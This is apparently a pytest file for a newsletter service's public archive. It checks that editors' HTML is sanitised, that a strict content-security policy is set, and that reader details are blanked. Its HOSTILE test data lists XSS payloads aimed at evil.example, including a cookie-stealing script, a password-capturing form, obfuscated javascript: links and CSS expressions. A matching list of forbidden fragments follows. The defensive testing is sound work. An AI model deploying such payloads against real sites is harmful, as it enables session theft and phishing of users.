"""The public archive: past digests served on mailer's own origin, with every reader's
part filled neutrally, and editors' HTML cleaned of anything that could run, load,
submit or redirect; sent through the real pipeline (an editor's template, a send to a
real SMTP server) and read back over HTTP."""

from __future__ import annotations

from datetime import timedelta
from typing import Any

from fastapi.testclient import TestClient

from mailer.clock import FrozenClock
from mailer.services import Services
from tests.conftest import SmtpSink, outbox_idle
from tests.factories import confirmed_reader

READER = "ada@example.com"

HOSTILE = {
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "script": "<script>document.location='https://evil.example/'+document.cookie</script>",
    "event handler": '<img src="https://news.example.com/a.png" onerror="alert(1)">'
    '<p onmouseover="alert(1)">hover</p><details open ontoggle="alert(1)">d</details>',
    "javascript: URLs": '<a href="javascript:alert(1)">j1</a>'
    '<a href=" JaVaScRiPt:alert(1)">j2</a><a href="java&#x09;script:alert(1)">j3</a>'
    '<a href="&#106;avascript:alert(1)">j4</a><a href="vbscript:msgbox(1)">j5</a>'
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">j6</a>',
    "iframe": '<iframe src="https://evil.example/frame"></iframe>'
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "base": '<base href="https://evil.example/">',
    "svg": '<svg onload="alert(1)"><script>alert(2)</script>'
    '<a xlink:href="javascript:alert(3)"><text>svg</text></a></svg>',
    "form": '<form action="https://evil.example/steal" method="post">'
    '<input name="password" type="password"><button formaction="https://evil.example/">Go'
    "</button></form>",
    "css": '<p style="width: expression(alert(1))">e</p>'
    '<div style="background:url(javascript:alert(1))">u</div>'
    '<div style="background-image: url(&quot;https://evil.example/track.png&quot;)">t</div>'
    '<div style="color: r\\65 d; behavior: url(x.htc)">b</div>'
    "<style>p { color: red; background: url(https://evil.example/bg.png) }</style>",
    # Not a <link rel="stylesheet">: the CSS inliner would fetch it while rendering.
    "object and embed": '<object data="https://evil.example/x.swf"></object>'
    '<embed src="https://evil.example/x.swf">',
}
LEFT_OUT = [
    "evil.example",
    "http-equiv",
    "<script",
    "alert(",
    "msgbox",
    "javascript:",
    "vbscript:",
    "data:text",
    "<iframe",
    "srcdoc",
    "<base",
    "<svg",
    "<form",
    "<input",
    "formaction",
    "expression(",
    "url(",
    "behavior",
    "<object",
    "<embed",
    "<style",
    "onerror",
    "onmouseover",
    "ontoggle",
    "onload",
]
KEPT = (
    '<h2>Archived news</h2><table width="600" cellpadding="8"><tr>'
    '<td style="color: #333333; font-weight: bold; padding: 4px">In the table</td></tr></table>'
    '<p><img src="https://news.example.com/photo.jpg" alt="A photo" width="300"></p>'
    '<p><a href="https://news.example.com/story">Read on</a></p>'
)
GREETING = (
    "<p>Hello{{ recipient.greeting_name }}, dear {{ recipient.name }}{{ recipient.email }}.</p>"
)
UNSUBSCRIBE = '<p><a href="{{ recipient.unsubscribe_url }}">Leave</a></p>'


def archived_send(
    editor: TestClient,
    services: Services,
    smtp: SmtpSink,
    clock: FrozenClock,
    **templates: str,
) -> dict[str, Any]:
    """A digest with the editor's templates, sent to one reader, in the list's archive."""
    confirmed_reader(editor, smtp, READER)
    article = editor.post(
        "/api/v1/articles",
        json={
            "url": "https://news.example.com/story-1",
            "title": "Archived story",
            "summary": "What happened.",
            "topics": ["world"],
            "published_at": (clock.now() - timedelta(hours=1)).isoformat(),
        },
    )
    assert article.status_code == 201, article.text
    digest = editor.post(
        "/api/v1/digests",
        json={
            "list": "news",
            "name": "Morning Brief",
            "schedule": "0 7 * * mon-fri",
            "timezone": "Europe/Berlin",
            "topics": ["world"],
            "max_articles": 8,
            **templates,
        },
    )
    assert digest.status_code == 201, digest.text
    send = editor.post(f"/api/v1/digests/{digest.json()['id']}/send")
    assert send.status_code == 202, send.text
    smtp.wait_for(2)
    outbox_idle(services)
    assert editor.patch("/api/v1/lists/news", json={"archive_enabled": True}).status_code == 200
    return dict(send.json())


def test_an_archived_digest_keeps_none_of_an_editors_hostile_html(
    editor: TestClient, services: Services, smtp: SmtpSink, clock: FrozenClock
) -> None:
    html = "<html><head><title>x</title></head><body>"
    html += "".join(HOSTILE.values()) + KEPT + "{% for a in articles %}{{ a.title }}{% endfor %}"
    html += "</body></html>"
    send = archived_send(editor, services, smtp, clock, html_template=html)

    page = editor.get(f"/archive/news/{send['id']}")

    assert page.status_code == 200, page.text
    lowered = page.text.lower()
    for fragment in LEFT_OUT:
        assert fragment not in lowered, f"{fragment!r} survived in {page.text}"
    assert "Archived story" in page.text
    assert "In the table" in page.text and 'style="color:#333333' in page.text.replace(" ", "")
    assert '<img src="https://news.example.com/photo.jpg" alt="A photo"' in page.text
    assert '<a href="https://news.example.com/story" rel="noopener noreferrer">' in page.text
    policy = page.headers["content-security-policy"]
    for directive in (
        "default-src 'none'",
        "form-action 'none'",
        "base-uri 'none'",
        "frame-ancestors 'none'",
        "sandbox",
    ):
        assert directive in policy
    assert "script-src" not in policy and "allow-scripts" not in policy
    assert "allow-same-origin" not in policy


def test_the_archive_and_its_feed_show_no_reader_parts_and_no_markers(
    editor: TestClient, services: Services, smtp: SmtpSink, clock: FrozenClock
) -> None:
    send = archived_send(
        editor,
        services,
        smtp,
        clock,
        subject_template="News for you{{ recipient.greeting_name }}",
        html_template=GREETING + UNSUBSCRIBE + "{% for a in articles %}{{ a.title }}{% endfor %}",
        text_template="Hello{{ recipient.greeting_name }}, {{ recipient.name }}"
        "{{ recipient.email }}\n{% for a in articles %}{{ a.title }}{% endfor %}\n"
        "Leave: {{ recipient.unsubscribe_url }}",
    )
    page = editor.get(f"/archive/news/{send['id']}")
    index = editor.get("/archive/news")
    feed = editor.get("/archive/news/feed.xml")

    for answer in (page, index, feed):
        assert answer.status_code == 200
        assert "@@mailer" not in answer.text
        assert READER not in answer.text
        assert "/unsubscribe/" not in answer.text
    assert "<title>News for you: " in page.text
    assert "Hello, dear .</p>" in page.text
    assert 'href="http://testserver/archive/news"' in page.text
    assert "News for you" in index.text
    assert "<title>News for you</title>" in feed.text
    assert "Hello, \n" in feed.text or "Hello, Archived" in feed.text.replace("\n", "")
    assert "Leave: http://testserver/archive/news" in feed.text
